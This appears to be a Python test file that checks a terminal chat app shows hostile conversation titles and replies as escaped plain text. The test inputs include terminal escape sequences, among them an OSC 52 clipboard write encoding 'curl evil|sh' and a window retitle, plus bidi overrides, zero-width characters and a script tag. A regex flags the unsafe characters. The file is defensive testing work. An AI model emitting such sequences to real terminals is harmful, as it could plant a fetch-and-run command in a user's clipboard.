"""Hostile titles and replies in the TUI: escapes, bidi, zero-width and raw HTML shown as text.

A conversation is imported with ``llamachat import`` (as a person would) and opened in the
real app; what is checked is the text of every cell the compositor would send to the terminal.
"""

from __future__ import annotations

import json
import re
import subprocess
import sys
from pathlib import Path
from typing import Any

from textual.app import App

from llamachat.tui.screens.dialogs import ConfirmScreen
from tests.tui_helpers import SIZE, configure, make_app, views, wait_for

OSC52 = "\x1b]52;c;Y3VybCBldmlsfHNo\x07"  # writes "curl evil|sh" to the clipboard
RETITLE = "\x1b]0;pwned\x07"
C1_CSI = "\x9b31m"
BIDI = "\u202eevil\u202c \u2066iso\u2069 \u200fmark"
ZERO_WIDTH = "z\u200bw\u2060j\ufeffs\u00adh"
TITLE = f"T {OSC52}{RETITLE}{C1_CSI} [bold]x[/] {BIDI} {ZERO_WIDTH}"
REPLY = (
    f"reply {OSC52} {RETITLE} {C1_CSI} {BIDI} {ZERO_WIDTH}\n\n"
    "<script>alert(1)</script>\n\n<div>hi there</div>\n\ninline <b>bold?</b> end\n\n"
    f"```py{RETITLE}\nprint({OSC52!r})\n```\n"
)

#: Characters that must never reach the terminal from untrusted text.
UNSAFE = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u200b\u2060\ufeff\u00ad]"
)


def screen_text(app: App[Any]) -> str:
    """The text of every cell of the screen, as the compositor sends it to the terminal."""
    update = app.screen._compositor.render_update(full=True, screen_stack=app._background_screens)
    lines = []
    for line in getattr(update, "strips"):  # noqa: B009 (a LayoutUpdate has them, the union not)
        strips = [line] if hasattr(line, "text") else list(line)
        lines.append("".join(strip.text for strip in strips if strip is not None))
    return "\n".join(lines)


def import_hostile(env: dict[str, str], tmp_path: Path) -> None:
    path = tmp_path / "hostile.json"
    path.write_text(
        json.dumps(
            {
                "title": TITLE,
                "messages": [
                    {"role": "user", "content": f"question {RETITLE}"},
                    {"role": "assistant", "content": REPLY},
                ],
            }
        )
    )
    result = subprocess.run(
        [sys.executable, "-m", "llamachat", "import", str(path)],
        capture_output=True,
        text=True,
        env=env,
        timeout=60,
    )
    assert result.returncode == 0, result.stderr


async def test_hostile_title_and_reply_reach_the_screen_escaped(
    subprocess_env: dict[str, str], tmp_path: Path
) -> None:
    configure()
    import_hostile(subprocess_env, tmp_path)
    app = make_app()
    async with app.run_test(size=SIZE) as pilot:
        await wait_for(lambda: len(views(app)) == 2, pilot)
        await wait_for(lambda: "inline" in screen_text(app), pilot)
        text = screen_text(app)
        assert not UNSAFE.findall(text), UNSAFE.findall(text)
        # The tab label is plain text (no markup), escaped, and the sidebar row too.
        shown = app.tabs.active_chat
        assert shown is not None
        label = app.tabs.title_of(shown)
        assert label.startswith("T \\x1b]52;c;")
        assert not UNSAFE.search(label)
        assert "\\x1b]52;c;Y3VybCBldmlsfHNo\\x07" in text  # the sidebar shows it, escaped
        # The reply: escapes and bidi overrides shown, raw HTML shown as typed.
        body = views(app)[1]
        reply = " ".join(" ".join(body.render_line(y).text for y in range(body._height)).split())
        assert "\\x1b]0;pwned\\x07" in reply and "\\x9b31m" in reply
        assert "\\u202eevil\\u202c" in reply and "\\u2066iso\\u2069" in reply
        assert "z\\u200bw\\u2060j\\ufeffs\\xadh" in reply
        assert "<script>alert(1)</script>" in reply
        assert "<div>hi there</div>" in reply
        assert "inline <b>bold?</b> end" in reply
        assert "[1] py\\x1b]0;pwned\\x07" in reply  # a code fence's language is untrusted too

        # A notice quoting the title (archiving it from the sidebar) is escaped too.
        app.sidebar.items.focus()
        await wait_for(lambda: app.sidebar.items.has_focus, pilot)
        await pilot.press("a")
        await wait_for(lambda: len(app._notifications) > 0, pilot)
        notice = next(iter(app._notifications))
        assert notice.message.startswith("Archived “T \\x1b]52;c;")
        assert "\\x1b]0;pwned\\x07" in notice.message and not UNSAFE.search(notice.message)
        assert not notice.markup  # "[bold]x[/]" in a title is shown as typed


async def test_a_modal_over_bidi_text_keeps_its_layout(
    subprocess_env: dict[str, str], tmp_path: Path
) -> None:
    configure()
    import_hostile(subprocess_env, tmp_path)
    app = make_app()
    async with app.run_test(size=SIZE) as pilot:
        await wait_for(lambda: len(views(app)) == 2, pilot)
        app.push_screen(ConfirmScreen(f"Delete “{TITLE}” and all its messages?"))
        await wait_for(lambda: isinstance(app.screen, ConfirmScreen), pilot)
        await wait_for(lambda: "Delete “T" in screen_text(app), pilot)
        text = screen_text(app)
        assert not UNSAFE.findall(text), UNSAFE.findall(text)
        # Every line of the screen is exactly as wide as the screen: nothing of zero width
        # in the panes beneath shifts the modal's border, and nothing can reorder it.
        lines = text.split("\n")
        assert len(lines) == SIZE[1]
        from rich.cells import cell_len

        assert {cell_len(line) for line in lines} == {SIZE[0]}
        assert all(len(line) == SIZE[0] for line in lines if line.isascii())


async def test_palette_lists_a_hostile_title_as_plain_text(
    subprocess_env: dict[str, str], tmp_path: Path
) -> None:
    configure()
    import_hostile(subprocess_env, tmp_path)
    app = make_app()
    async with app.run_test(size=SIZE) as pilot:
        await wait_for(lambda: len(views(app)) == 2, pilot)
        await pilot.press("ctrl+p")
        await wait_for(lambda: type(app.screen).__name__ == "CommandPalette", pilot)
        await pilot.press(*"Open")
        await wait_for(lambda: "Open: T" in screen_text(app), pilot)
        text = screen_text(app)
        assert not UNSAFE.findall(text), UNSAFE.findall(text)
        assert "Open: T \\x1b]52;c;" in text
        assert "[bold]x[/]" in text  # a title is never markup


def test_safe_markdown_sets_what_rich_markdown_sets() -> None:
    """SafeMarkdown skips Rich's __init__ (a parser per block): it must set the same fields."""
    from rich.markdown import Markdown

    from llamachat.tui.conversation.markdown_parts import markdown

    ours = markdown("<b>x</b>", "monokai")
    assert set(vars(ours)) == set(vars(Markdown("x", hyperlinks=False)))
    assert [t.type for t in ours.parsed] == ["paragraph_open", "inline", "paragraph_close"]
